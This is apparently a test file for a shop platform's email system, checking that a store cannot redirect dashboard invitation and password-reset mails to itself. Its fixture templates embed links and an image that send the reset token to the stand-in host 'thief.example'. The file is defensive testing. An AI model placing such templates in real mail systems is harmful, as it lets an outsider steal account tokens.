import { assert, layer } from "@effect/vitest"
import { Effect, Layer } from "effect"
import { afterAll } from "vitest"
import { RootSecret } from "../../src/crypto/RootSecret.ts"
import { mailTokenContext, mailTokenPurpose } from "../../src/customer/CustomerEvents.ts"
import { Emails } from "../../src/email/Emails.ts"
import { MailDelivery } from "../../src/email/MailDelivery.ts"
import { EmailDomains } from "../../src/emaildomain/EmailDomains.ts"
import { SalesChannels } from "../../src/store/SalesChannels.ts"
import { EmailTemplates } from "../../src/template/EmailTemplates.ts"
import { openNameServer } from "../emaildomain/nameServer.ts"
import { openPostOffice } from "./mailServer.ts"
import { eventOf, onTestDatabase, openStore, queueOf, relay, shopWith, tokenEvent } from "./mailShop.ts"

const [office, names] = [await openPostOffice(), await openNameServer()]
afterAll(() => Promise.all([office.close(), names.close()]))

const types = ["TEAM_INVITATION", "STORE_INVITATION", "PASSWORD_RESET"] as const

/** A store that has set everything it can so that a mail leads to it. */
const greedyStore = Effect.gen(function* () {
  const store = yield* openStore()
  yield* SalesChannels.use((channels) => channels.create(store.id, { name: "Web", domain: "thief.example" }))
  const domains = yield* EmailDomains
  const domain = yield* domains.create(store, { domain: `mail-${store.id.replaceAll("_", "-")}.example` })
  for (const { name, value, required } of domain.dnsRecords) if (required) names.records.set(name, [value])
  yield* domains.verify(store, domain.id)
  yield* Emails.use((emails) =>
    emails.changeSettings(store, {
      customDomainId: domain.id,
      defaultReplyTo: "answers@thief.example",
      footerAddress: "thief.example"
    })
  )
  const templates = yield* EmailTemplates
  for (const eventType of types)
    yield* templates.create(store, {
      name: eventType,
      eventType,
      language: "en",
      subject: "Own",
      htmlContent: '<a href="https://thief.example/?{{token}}">{{token}}</a><img src="https://thief.example/{{path}}">'
    })
  return store
})

let people = 0
/** An event of each kind, and the addresses that its mail goes to. */
const asked = Effect.fnUntraced(function* (storeId: string) {
  const root = yield* RootSecret
  const to = types.map((type) => `${type.toLowerCase()}${++people}@example.com`)
  const sealed = (id: string) => root.seal(mailTokenPurpose, mailTokenContext(storeId, id), "tok-SECRET_123")
  const expiresAt = "2099-01-01T00:00:00.000Z"
  const invitation = { memberId: "team_1", role: "staff", inviterName: "Ada", token: sealed("team_1"), expiresAt }
  const events = [
    eventOf("internal.team_invitation", { ...invitation, email: to[0], isKnown: false }),
    eventOf("internal.team_invitation", { ...invitation, email: to[1], isKnown: true }),
    eventOf("internal.dashboard_reset", {
      userId: "user_1",
      email: to[2],
      name: "Ada",
      token: sealed("user_1"),
      expiresAt
    })
  ]
  return { to, events }
})

const arrived = Effect.fnUntraced(function* (storeId: string) {
  const { to, events } = yield* asked(storeId)
  yield* relay(storeId, ...events)
  const waiting = yield* queueOf(storeId)
  yield* MailDelivery.use((delivery) => delivery.deliverDue)
  const mails = to.map((address) => office.mails.find(({ envelopeTo }) => envelopeTo.includes(address)))
  return { waiting, mails, records: [...waiting, ...(yield* queueOf(storeId))] }
})

const over = (publicUrl: string | undefined) =>
  shopWith({
    smtpUrl: `${office.url}?from=post@host.example`,
    dnsServers: [names.address],
    ...(publicUrl === undefined ? {} : { publicUrl })
  }).pipe(Layer.provideMerge(onTestDatabase))

layer(over("https://host.example"))("a mail with a token of the dashboard", (it) => {
  it.effect("is the installation's, whatever the store has set, and its record never shows the token", () =>
    Effect.gen(function* () {
      const store = yield* greedyStore
      const { waiting, mails, records } = yield* arrived(store.id)
      assert.deepStrictEqual(
        mails.map((mail) => [mail?.subject, mail?.from?.value[0]?.address, mail?.replyTo?.text]),
        [
          ["Ada invites you to Test Shop", "post@host.example", undefined],
          ["Ada invites you to the store Test Shop", "post@host.example", undefined],
          ["Choose a new password for Commerce Dashboard", "post@host.example", undefined]
        ]
      )
      const links = ["/dashboard/invitation", "/dashboard/invitation", "/dashboard/reset-password"]
      for (const [at, mail] of mails.entries()) {
        const body = `${mail?.text}${mail?.html || ""}`
        assert.include(body, `https://host.example${links[at]}?token=tok-SECRET_123`)
        assert.notInclude(body, "thief.example")
      }
      assert.deepStrictEqual(
        waiting.map(({ sealed }) => typeof sealed),
        ["string", "string", "string"]
      )
      assert.notInclude(JSON.stringify(records), "SECRET")
    })
  )

  it.effect("to a customer has the template of the store as before", () =>
    Effect.gen(function* () {
      const store = yield* greedyStore
      const to = `customer${++people}@example.com`
      yield* relay(store.id, yield* tokenEvent("internal.password_reset", store.id, { email: to }))
      yield* MailDelivery.use((delivery) => delivery.deliverDue)
      const mail = office.mails.find(({ envelopeTo }) => envelopeTo.includes(to))
      assert.deepStrictEqual([mail?.subject, mail?.replyTo?.text], ["Own", "answers@thief.example"])
    })
  )
})

layer(over(undefined))("a mail with a token of the dashboard, without a public URL", (it) => {
  it.effect("has no link, and says where the token goes", () =>
    Effect.gen(function* () {
      const { mails } = yield* arrived((yield* greedyStore).id)
      const [team, store, reset] = mails.map((mail) => mail?.text ?? "")
      for (const text of [team, store])
        assert.include(
          text,
          "Open the dashboard in your browser and add this to its address:\n\n/dashboard/invitation?token=tok-SECRET_123\n"
        )
      assert.include(
        reset,
        "Open Commerce Dashboard in your browser and add this to its address:\n\n/dashboard/reset-password?token=tok-SECRET_123\n"
      )
      for (const mail of mails) assert.notMatch(`${mail?.text}${mail?.html || ""}`, /https?:|thief|href/)
    })
  )
})
